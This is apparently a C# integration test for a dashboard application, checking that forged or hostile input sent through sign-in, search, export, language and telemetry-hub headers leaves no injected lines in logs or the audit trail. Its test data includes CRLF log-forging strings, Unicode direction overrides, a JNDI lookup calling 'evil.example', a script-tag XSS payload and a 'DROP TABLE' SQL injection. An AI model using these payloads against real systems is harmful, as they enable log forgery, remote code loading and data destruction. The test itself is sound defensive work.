using System.Globalization;
using System.Net;
using System.Text;
using Sensoro.Dashboard.Access;
using Sensoro.Dashboard.Storage.Audit;

namespace Sensoro.Dashboard.Tests.Integration;

/// <summary>Names, headers and addresses that mean to write lines of their own, or to look like something else, in the log and in the trail.</summary>
public sealed class ForgedTextTests : IAsyncDisposable
{
    private readonly DashboardFactory _dashboard = new(new DashboardSettings
    {
        Values = new Dictionary<string, string>(StringComparer.Ordinal) { ["Proxies:0"] = "127.0.0.1" },
    });

    private static readonly string[] Texts =
    [
        "x\r\nwarn: forged", "x\nforged", "\u202Egnp.exe", "\u2066hidden\u2069", "\u001B[2J", "a\u0000b", "\u2028line", "\u0085next", "\uFEFFmark", "{UserId} {0} {@x}", "%n%s", "${jndi:ldap://evil.example}",
        "<script>alert(1)</script>", "'; DROP TABLE audit; --", new string('x', 2_000),
    ];

    public static TheoryData<string> Strange => [.. Texts];

    private static CancellationToken Cancelled => TestContext.Current.CancellationToken;

    public ValueTask DisposeAsync() => _dashboard.DisposeAsync();

    [Theory]
    [MemberData(nameof(Strange))]
    public async Task LogAndTrail_OfStrangeTextsEverywhere_HaveNoForgedLine(string text)
    {
        await _dashboard.AddUserAsync("wang.fang", Role.Viewer);
        using var viewer = _dashboard.ClientOf("wang.fang");
        var escaped = Uri.EscapeDataString(text);
        var forged = Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(string.Concat(text.Where(static letter => letter is not ('\r' or '\n' or '\0')).Take(2_000))));

        using var stranger = new HttpClient(new SocketsHttpHandler { AllowAutoRedirect = false, CookieContainer = new CookieContainer(), UseProxy = false }) { BaseAddress = _dashboard.Address };
        using var refused = await SessionCookie.PostAsync(stranger, "/account/sign-in", "sign-in", new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["UserName"] = text, ["Password"] = text,
        });
        using var denied = await viewer.GetAsync(new Uri($"/users?q={escaped}", UriKind.Relative), Cancelled);
        using var export = await _dashboard.GetAsync($"/api/v1/exports/readings?from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00Z&search={escaped}&metric={escaped}&type={escaped}");
        using var language = await _dashboard.GetAsync($"/language/{Uri.EscapeDataString(escaped)}", token: null);
        await WireClient.SendAsync(
            _dashboard.Address,
            "POST",
            "/hubs/telemetry/negotiate?" + escaped[..Math.Min(escaped.Length, 1_000)],
            [("Host", "localhost"), ("Origin", "https://" + forged), ("User-Agent", forged), ("Referer", forged), ("X-Forwarded-For", forged), ("X-Forwarded-Proto", forged), ("Authorization", "Bearer " + forged)],
            [],
            Cancelled);

        Assert.All(_dashboard.Logs.GetSnapshot(), static line => AssertPlain(line.Message));
        var entries = await _dashboard.Get<AuditQueries>().NewestAsync(new AuditFilter(), null, 100, Cancelled);
        Assert.All(entries, static link => AssertPlain(string.Concat(link.Entry.Actor, link.Entry.Address, link.Entry.Target, link.Entry.Before, link.Entry.After)));
        Assert.Equal(!text.Contains('\0', StringComparison.Ordinal), entries.Any(static link => link.Entry.Action == "sign_in_refused"));
        Assert.Contains(entries, static link => link.Entry.Action == "download");
        Assert.Contains(entries, static link => link.Entry.Action == "access_refused" && link.Entry.Target == "/users");
        Assert.True((await _dashboard.Get<AuditInspector>().InspectAsync(Cancelled)).IsWhole);
    }

    private static void AssertPlain(string text)
    {
        Assert.DoesNotContain(text, static letter => char.GetUnicodeCategory(letter) is
            UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator);
        Assert.InRange(text.Length, 0, 20_000);
    }
}
